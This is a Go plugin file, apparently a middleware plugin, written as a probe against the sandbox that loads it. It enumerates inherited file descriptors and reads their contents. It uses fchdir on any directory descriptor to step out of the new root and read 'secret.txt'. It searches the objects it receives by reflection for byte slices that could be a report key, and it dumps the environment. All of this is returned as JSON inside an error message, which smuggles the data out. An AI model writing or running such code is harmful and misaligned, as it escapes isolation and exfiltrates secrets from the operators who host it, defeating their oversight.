// Package fdprobe looks for what could lift the report key or reach the
// host: descriptors the worker inherited beyond 0-3 (a directory of the
// host would let it out of the new root), and byte slices of 16+ bytes
// reachable by reflection from the objects New receives (context, next).
package fdprobe

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"reflect"
)

// Config is empty.
type Config struct{}

// CreateConfig returns the default configuration.
func CreateConfig() *Config { return &Config{} }

func walk(v reflect.Value, depth int, path string, found *[]string, seen map[uintptr]bool) {
	if depth > 12 || !v.IsValid() {
		return
	}
	switch v.Kind() {
	case reflect.Ptr, reflect.Interface:
		if v.IsNil() {
			return
		}
		if v.Kind() == reflect.Ptr {
			if seen[v.Pointer()] {
				return
			}
			seen[v.Pointer()] = true
		}
		walk(v.Elem(), depth+1, path+"*", found, seen)
	case reflect.Struct:
		for i := 0; i < v.NumField(); i++ {
			walk(v.Field(i), depth+1, path+"."+v.Type().Field(i).Name, found, seen)
		}
	case reflect.Slice, reflect.Array:
		if v.Type().Elem().Kind() == reflect.Uint8 && v.Len() >= 16 {
			*found = append(*found, fmt.Sprintf("%s: %d bytes", path, v.Len()))
			return
		}
		for i := 0; i < v.Len() && i < 64; i++ {
			walk(v.Index(i), depth+1, fmt.Sprintf("%s[%d]", path, i), found, seen)
		}
	case reflect.Map:
		it := v.MapRange()
		for it.Next() {
			walk(it.Key(), depth+1, path+"{k}", found, seen)
			walk(it.Value(), depth+1, path+"{v}", found, seen)
		}
	}
}

// New fails with a JSON report.
func New(ctx context.Context, next http.Handler, _ *Config, _ string) (http.Handler, error) {
	rep := map[string]any{}
	var fds []string
	for fd := 0; fd < 256; fd++ {
		f := os.NewFile(uintptr(fd), "fd")
		if f == nil {
			continue
		}
		fi, err := f.Stat()
		if err != nil {
			continue
		}
		s := fmt.Sprintf("%d:%s", fd, fi.Mode())
		if fi.Mode().IsRegular() {
			buf := make([]byte, 48)
			n, err := f.ReadAt(buf, 0)
			s += fmt.Sprintf(" size=%d read=%q err=%v", fi.Size(), buf[:n], err)
		}
		if fi.IsDir() {
			if names, err := f.Readdirnames(20); err == nil {
				s += fmt.Sprint(names)
			}
			// fchdir to the descriptor, then read by relative path.
			if err := f.Chdir(); err == nil {
				data, err := os.ReadFile("secret.txt")
				s += fmt.Sprintf(" secret=%q err=%v", data, err)
			}
		}
		fds = append(fds, s)
	}
	rep["fds"] = fds
	var found []string
	seen := map[uintptr]bool{}
	func() {
		defer func() { recover() }()
		walk(reflect.ValueOf(ctx), 0, "ctx", &found, seen)
		walk(reflect.ValueOf(next), 0, "next", &found, seen)
		walk(reflect.ValueOf(http.DefaultClient), 0, "http.DefaultClient", &found, seen)
		walk(reflect.ValueOf(os.Stdin), 0, "os.Stdin", &found, seen)
	}()
	rep["bytes"] = found
	rep["env"] = os.Environ()
	data, _ := json.Marshal(rep)
	return nil, errors.New("fdprobe:" + string(data))
}
